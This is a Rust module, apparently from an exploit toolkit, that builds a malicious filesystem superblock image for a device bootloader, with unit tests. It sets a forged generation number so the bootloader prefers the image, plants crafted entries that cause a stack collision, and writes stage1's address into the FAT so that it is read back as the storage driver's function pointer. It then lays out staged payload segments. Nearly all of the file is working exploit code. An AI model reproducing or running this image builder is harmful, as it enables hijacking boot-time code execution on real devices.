/// Final image assembly and the staged build pipeline.
///
/// Image layout (everything big-endian):
///   +0x00000 header: magic "SFS!", generation, reserved u32
///   +0x0000C FAT: 0x8000 u16 cluster links
///   +0x1000C FST arena: 6143 32-byte entries
///   +0x3FFEC trailing zero pad (0x14 bytes)
/// for a total of exactly 0x40000 bytes.
use log::debug;

use crate::chain::{self, DECOY_CLUSTER};
use crate::layout::{self, Layout, LayoutError, FST_AREA_SIZE, SUPERBLOCK_SIZE};
use crate::repair;
use crate::stage1;

/// "SFS!"
pub const SFFS_MAGIC: u32 = 0x5346_5321;

/// Near-maximal generation so boot1 prefers this superblock over every
/// legitimate one (it mounts the newest valid candidate).
pub const DEFAULT_GENERATION: u32 = 0xFFFF_FFFE;

pub const FAT_ENTRIES: usize = 0x8000;

/// Bad-block sentinel; keeps boot1 away from every cluster chain.
pub const FAT_BAD_BLOCK: u16 = 0xFFFD;

/// Chain-last sentinel, terminates the decoy file's cluster chain.
pub const FAT_CHAIN_LAST: u16 = 0xFFFB;

const TRAILING_PAD: usize = 0x14;

/// A finished build: the flashable image plus the placements that went into
/// it, kept for reporting.
#[derive(Debug)]
pub struct Build {
    pub image: Vec<u8>,
    pub layout: Layout,
}

/// Run the full pipeline on a stage2 payload.
///
/// Stages run in a fixed order because each consumes values the previous
/// one pinned down: the explicit entries fix the arena front, compensation
/// fixes the segment lengths, placement fixes the addresses, and only then
/// can stage1 (which embeds those addresses) and the FAT pointer overwrite
/// be emitted.
pub fn build(payload: &[u8], generation: u32) -> Result<Build, LayoutError> {
    let entries = chain::build_entries();
    debug!(
        "{} entry bytes, walk stack collides with {:#010x}",
        entries.len(),
        chain::COLLISION_TARGET
    );
    let comp = repair::compensate(payload);
    debug!(
        "{} stage2 bytes, {} recovery bytes",
        comp.stage2.len(),
        comp.recovery.len()
    );

    let layout = layout::place(
        entries.len(),
        comp.stage2.len(),
        comp.recovery.len(),
        stage1::STAGE1_SIZE,
    )?;
    let bootstrap = stage1::generate(
        layout.recovery.addr(),
        comp.recovery.len(),
        layout.stage2.addr(),
    );

    // FST arena: explicit entries at the front, segments at their placed
    // offsets, zeroes everywhere else.
    let mut arena = vec![0u8; FST_AREA_SIZE];
    arena[..entries.len()].copy_from_slice(&entries);
    for (placement, bytes) in [
        (&layout.stage1, &bootstrap),
        (&layout.recovery, &comp.recovery),
        (&layout.stage2, &comp.stage2),
    ] {
        arena[placement.offset..placement.offset + bytes.len()].copy_from_slice(bytes);
    }

    let mut image = Vec::with_capacity(SUPERBLOCK_SIZE);
    image.extend_from_slice(&SFFS_MAGIC.to_be_bytes());
    image.extend_from_slice(&generation.to_be_bytes());
    image.extend_from_slice(&0u32.to_be_bytes()); // reserved

    let mut fat = [FAT_BAD_BLOCK; FAT_ENTRIES];
    fat[DECOY_CLUSTER as usize] = FAT_CHAIN_LAST;
    // After the stack collision the FAT's first four bytes are read back as
    // the storage driver's dispatch function pointer: point it at stage1.
    let entrypoint = layout.stage1.addr();
    fat[0] = (entrypoint >> 16) as u16;
    fat[1] = (entrypoint & 0xFFFF) as u16;
    for link in fat {
        image.extend_from_slice(&link.to_be_bytes());
    }

    image.extend_from_slice(&arena);
    image.resize(SUPERBLOCK_SIZE, 0);
    debug_assert_eq!(image.len(), 12 + FAT_ENTRIES * 2 + FST_AREA_SIZE + TRAILING_PAD);

    Ok(Build { image, layout })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fst::{FST_ENTRY_SIZE, MODE_FIELD_OFFSET};
    use crate::layout::{Placement, Segment, FST_OFFSET};

    fn fat_entry(image: &[u8], index: usize) -> u16 {
        let base = 12 + index * 2;
        u16::from_be_bytes([image[base], image[base + 1]])
    }

    fn segment<'a>(image: &'a [u8], placement: &Placement) -> &'a [u8] {
        let start = placement.image_offset();
        &image[start..start + placement.len]
    }

    #[test]
    fn test_image_is_fixed_size() {
        for payload_len in [0, 1, 64, 4096] {
            let build = build(&vec![0xA5; payload_len], DEFAULT_GENERATION).unwrap();
            assert_eq!(build.image.len(), SUPERBLOCK_SIZE);
        }
    }

    #[test]
    fn test_header() {
        let build = build(&[0u8; 64], 0x1234_5678).unwrap();
        assert_eq!(&build.image[..4], b"SFS!");
        assert_eq!(&build.image[4..8], &0x1234_5678u32.to_be_bytes());
        assert_eq!(&build.image[8..12], &[0, 0, 0, 0]);
    }

    #[test]
    fn test_fat_contents() {
        let build = build(&[0u8; 64], DEFAULT_GENERATION).unwrap();
        let entrypoint = build.layout.stage1.addr();

        assert_eq!(fat_entry(&build.image, 0), (entrypoint >> 16) as u16);
        assert_eq!(fat_entry(&build.image, 1), (entrypoint & 0xFFFF) as u16);
        assert_eq!(fat_entry(&build.image, DECOY_CLUSTER as usize), FAT_CHAIN_LAST);
        for i in 2..FAT_ENTRIES {
            if i != DECOY_CLUSTER as usize {
                assert_eq!(fat_entry(&build.image, i), FAT_BAD_BLOCK, "FAT[{i}]");
            }
        }
    }

    #[test]
    fn test_segments_land_at_their_placements() {
        let payload: Vec<u8> = (0..1000u32).map(|i| (i * 7) as u8).collect();
        let build = build(&payload, DEFAULT_GENERATION).unwrap();

        let staged = repair::compensate(&payload);
        assert_eq!(segment(&build.image, &build.layout.stage2), &staged.stage2[..]);
        assert_eq!(segment(&build.image, &build.layout.recovery), &staged.recovery[..]);
        assert_eq!(
            &segment(&build.image, &build.layout.stage1)[0x3C..],
            &build.layout.stage2.addr().to_be_bytes()
        );
    }

    #[test]
    fn test_restore_round_trip_through_placed_addresses() {
        // The law the whole exploit rests on: replaying the placed recovery
        // stream over the placed stage2 copy reproduces the payload.
        let payload: Vec<u8> = (0..3000u32)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect();
        let build = build(&payload, DEFAULT_GENERATION).unwrap();

        let recovery = segment(&build.image, &build.layout.recovery);
        let mut restored = segment(&build.image, &build.layout.stage2).to_vec();

        let mut dst = MODE_FIELD_OFFSET;
        for (i, &byte) in recovery.iter().enumerate() {
            // exactly what the stage1 loop does, with absolute addresses
            let addr = build.layout.recovery.addr() + i as u32;
            if addr & 0x1F == 0x18 {
                continue;
            }
            restored[dst] = byte;
            dst += FST_ENTRY_SIZE;
        }
        assert_eq!(restored, payload);
    }

    #[test]
    fn test_arena_gap_is_zeroed() {
        let build = build(&[0xFFu8; 64], DEFAULT_GENERATION).unwrap();
        let entries_end = FST_OFFSET + chain::build_entries().len();
        let gap = &build.image[entries_end..build.layout.stage1.image_offset()];
        assert!(gap.iter().all(|&b| b == 0));
        // trailing pad too
        assert!(build.image[SUPERBLOCK_SIZE - 0x14..].iter().all(|&b| b == 0));
    }

    #[test]
    fn test_deterministic() {
        let payload = [0x42u8; 777];
        let a = build(&payload, DEFAULT_GENERATION).unwrap();
        let b = build(&payload, DEFAULT_GENERATION).unwrap();
        assert_eq!(a.image, b.image);
    }

    #[test]
    fn test_oversized_payload_fails_without_output() {
        let err = build(&vec![0u8; FST_AREA_SIZE], DEFAULT_GENERATION).unwrap_err();
        assert_eq!(
            err,
            LayoutError::InsufficientSpace {
                segment: Segment::Stage2,
                overlap: chain::build_entries().len(),
            }
        );
    }
}
